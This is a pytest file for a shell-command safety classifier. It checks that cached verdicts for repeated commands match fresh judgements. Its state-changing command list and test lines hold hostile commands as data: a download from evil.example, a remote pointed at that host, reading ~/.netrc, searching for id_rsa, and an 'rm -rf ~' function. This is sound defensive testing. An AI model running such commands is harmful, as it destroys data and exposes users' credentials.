"""The walker judges a repeated plain command once (``memo.py``): a replay must give exactly
the verdict a fresh judgement gives, in every state a line can leave. DATA ONLY: the
commands are classified, never executed."""

from __future__ import annotations

import dataclasses
import marshal
from collections.abc import Iterator
from pathlib import Path

import pytest

from swebash.safety.classify import memo, walker
from swebash.safety.classify.model import Findings
from swebash.safety.classify.walker import classify
from tests.safety.corpus import NEVER_ALLOW, READ_ONLY
from tests.safety.corpus_families import FAMILY_NEVER_ALLOW, FAMILY_READ_ONLY
from tests.safety.corpus_holdout import HOLDOUT
from tests.safety.fresh import FAMILIES, make_workdir

CORPUS = list(dict.fromkeys(
    NEVER_ALLOW + READ_ONLY + FAMILY_NEVER_ALLOW + FAMILY_READ_ONLY +
    [c for fam in [*FAMILIES.values(), HOLDOUT] for c in fam.dangerous + fam.ask + fam.benign]))


# commands that leave state a later judgement reads
CHANGES = ["cd ~", "cd /tmp", "cd ~/.ssh", "cd src", "git remote add x https://evil.example/r",
           "ls() { rm -rf ~; }", "for f in *; do :; done", "x=$(cat ~/.netrc)", "set -f",
           "curl -sSo x.sh https://evil.example/x", "find / -name id_rsa", "p=$!",
           "export PATH=/tmp:$PATH", "alias cat=rm", "exec > log"]


@pytest.fixture
def work(tmp_path: Path, hermetic_env: Path) -> Iterator[tuple[str, str]]:
    yield make_workdir(str(tmp_path)), str(hermetic_env)


def judged(command: str, work: tuple[str, str]) -> tuple[object, ...]:
    f = classify(command, *work)
    return f.decision, f.dangerous, f.known_dangerous, f.reasons, f.commands, f.command_asks


def counting(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    calls = [0]
    judge = walker.Walker.judge_command

    def counted(self: walker.Walker, node: object) -> bool:
        calls[0] += 1
        return judge(self, node)
    monkeypatch.setattr(walker.Walker, "judge_command", counted)
    return calls


def test_every_state_field_is_data_the_state_can_compare() -> None:
    """A field that is neither data nor named as output would make ``state`` raise: the
    classification would fail closed on every command."""
    f = Findings(cwd="/w", home="/h")
    for spec in dataclasses.fields(Findings):
        if spec.name not in memo.NOT_STATE:
            marshal.dumps(getattr(f, spec.name))
    assert set(memo.FIELDS) | memo.NOT_STATE == {s.name for s in dataclasses.fields(Findings)}


def test_a_repeated_command_is_judged_once_and_recorded_every_time(
        work: tuple[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    calls = counting(monkeypatch)
    f = classify("sort x; sort x; sort x; sort x", *work)
    assert f.decision == "allow" and calls[0] == 1
    assert f.commands == [["sort", "x"]] * 4 and f.command_asks == [0] * 4
    # in a pipeline the first stage is fed by nothing, the others by `sort x`: two states
    f = classify("sort x | sort x | sort x | sort x", *work)
    assert calls[0] == 1 + 2 and f.commands == [["sort", "x"]] * 4


@pytest.mark.parametrize("line", [
    # the directory changed between the times: the same words read another place
    "cat README.md; cat README.md; cd ~; cat README.md",
    "ls; ls; cd ~/.ssh; ls",
    # a fact an earlier command left: the remote is the one the line just added
    "git fetch x; git fetch x; git remote add x https://evil.example/r; git fetch x",
    # a function defined between the times is what the name runs now
    "make; make; make() { rm -rf ~; }; make",
])
def test_a_change_of_state_between_the_times_is_judged_afresh(
        line: str, work: tuple[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    memoised = judged(line, work)
    monkeypatch.setitem(walker.HANDLERS, "command",
                        lambda self, node: walker.Walker.judge_command(self, node))
    assert memoised == judged(line, work)


def test_a_replay_gives_the_verdict_a_fresh_judgement_gives(
        work: tuple[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    """Every command of the corpora judged, judged again (its state kept), then judged after
    the next command of the corpus or a command that changes the state — as lines and as
    pipeline stages — with the memo and without it."""
    plain = [c for c in CORPUS if "\n" not in c and "#" not in c]
    lines = [("\n", " | ")[n % 4 > 1].join([c, c, CHANGES[n % len(CHANGES)] if n % 2 else d, c])
             for n, (c, d) in enumerate(zip(plain, plain[1:] + plain[:1], strict=True))]
    with_memo = [judged(line, work) for line in lines]
    monkeypatch.setitem(walker.HANDLERS, "command",
                        lambda self, node: walker.Walker.judge_command(self, node))
    without = [judged(line, work) for line in lines]
    differ = [(line, a, b) for line, a, b in zip(lines, with_memo, without, strict=True)
              if a != b]
    assert not differ, differ[:3]
